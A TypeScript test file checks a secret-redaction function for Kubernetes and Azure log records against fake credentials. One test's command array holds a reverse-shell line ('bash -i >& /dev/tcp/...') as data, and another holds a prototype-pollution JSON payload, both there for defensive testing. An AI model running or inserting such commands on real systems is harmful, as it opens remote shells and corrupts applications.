import { describe, expect, it } from 'vitest';
import { redactValue } from '../../src/redact/redact-value.js';
import { redactionToken } from '../../src/redact/redaction-token.js';

const MANIFEST = JSON.stringify({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name: 'db-backup', namespace: 'ops' },
  spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'c', image: 'alpine' }] } } } } },
});

describe('redactValue', () => {
  it('replaces container env values and keeps their names and valueFrom', () => {
    const container = {
      name: 'backup',
      env: [
        { name: 'PGPASSWORD', value: 'Winter2026!prod' },
        { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 'api', key: 'token' } } },
        { name: 'EMPTY', value: '' },
      ],
    };
    expect(redactValue(container, 'default')).toEqual({
      name: 'backup',
      env: [
        { name: 'PGPASSWORD', value: redactionToken('env', 'Winter2026!prod') },
        { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 'api', key: 'token' } } },
        { name: 'EMPTY', value: redactionToken('env', '') },
      ],
    });
    expect(redactValue(container, 'off')).toBe(container);
  });

  it('keeps a hash and the size of the last-applied-configuration annotation', () => {
    const metadata = {
      annotations: {
        'kubectl.kubernetes.io/last-applied-configuration': `${MANIFEST}\n`,
        'team.contoso.example/owner': 'platform',
      },
    };
    expect(redactValue({ metadata }, 'default')).toEqual({
      metadata: {
        annotations: {
          'kubectl.kubernetes.io/last-applied-configuration': `${redactionToken('last-applied-configuration', `${MANIFEST}\n`)} (${MANIFEST.length + 1} bytes)`,
          'team.contoso.example/owner': 'platform',
        },
      },
    });
  });

  it('replaces Activity Log request and response bodies, strings or objects', () => {
    const body =
      '{"properties":{"agentPoolProfiles":[{"name":"np1"}],"servicePrincipalProfile":{"secret":"x"}}}';
    const out = redactValue(
      { properties: { statusCode: 'Created', requestbody: body, responseBody: { id: '/sub/x' } } },
      'default',
    ) as { properties: Record<string, string> };
    expect(out.properties['statusCode']).toBe('Created');
    expect(out.properties['requestbody']).toBe(
      `${redactionToken('request-body', body)} (${body.length} bytes)`,
    );
    expect(out.properties['responseBody']).toMatch(/^\[redacted:response-body:[0-9a-f]{8}\] \(15 bytes\)$/);
  });

  it('replaces the argument after --password or --token in a command array, and keeps the command', () => {
    const command = ['/bin/sh', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'];
    const args = ['--user', 'admin', '--password', 'Hunter2024x', '--token', 'sha256~Xb3kQ9vL2mN8rT1wZ4yB7'];
    expect(redactValue({ command, args }, 'default')).toEqual({
      command,
      args: [
        '--user',
        'admin',
        '--password',
        redactionToken('cli-argument', 'Hunter2024x'),
        '--token',
        redactionToken('cli-argument', 'sha256~Xb3kQ9vL2mN8rT1wZ4yB7'),
      ],
    });
  });

  it("replaces a Secret's data, and every string's secret shapes, with keys kept as data", () => {
    const secret = { kind: 'Secret', data: { password: 'V2ludGVyMjAyNiFwcm9k' }, type: 'Opaque' };
    expect(redactValue(secret, 'default')).toEqual({
      kind: 'Secret',
      data: { password: redactionToken('secret-data', 'V2ludGVyMjAyNiFwcm9k') },
      type: 'Opaque',
    });
    const hostile = JSON.parse(
      '{"__proto__": {"polluted": "AKIAQ3EGRZ7XKPL4WM2N"}, "constructor": "x"}',
    ) as object;
    const out = redactValue(hostile, 'default') as Record<string, unknown>;
    expect(Object.hasOwn(out, '__proto__')).toBe(true);
    expect(JSON.stringify(out)).toContain('[redacted:aws-access-key:');
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('leaves records without secrets as they were', () => {
    const record = {
      verb: 'create',
      objectRef: { resource: 'cronjobs', namespace: 'ops', name: 'log-rotate' },
      requestObject: {
        spec: { containers: [{ image: 'busybox:1.36', command: ['sh', '-c', 'logrotate /etc/lr.conf'] }] },
      },
    };
    expect(redactValue(record, 'default')).toEqual(record);
  });
});
